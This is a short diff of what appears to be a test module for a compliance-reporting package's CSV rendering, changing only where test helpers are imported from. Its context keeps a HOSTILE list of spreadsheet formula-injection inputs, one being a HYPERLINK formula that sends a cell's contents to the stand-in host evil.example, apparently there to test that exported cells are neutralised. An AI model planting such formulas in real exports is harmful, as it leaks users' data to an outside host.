@@ -14,10 +14,7 @@ from sqlalchemy.engine import Engine
 
 from hoster_compliance.report import build_report, render_csv, write_dsa_csv
 from hoster_compliance.report.render import text_cell
-from tests.sdk import report_data
-from tests.sdk.report_data import SPEECH, T, add_order, utc
-
-report_engine = report_data.report_engine
+from tests.helpers.report import SPEECH, T, add_order, utc
 
 HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
 
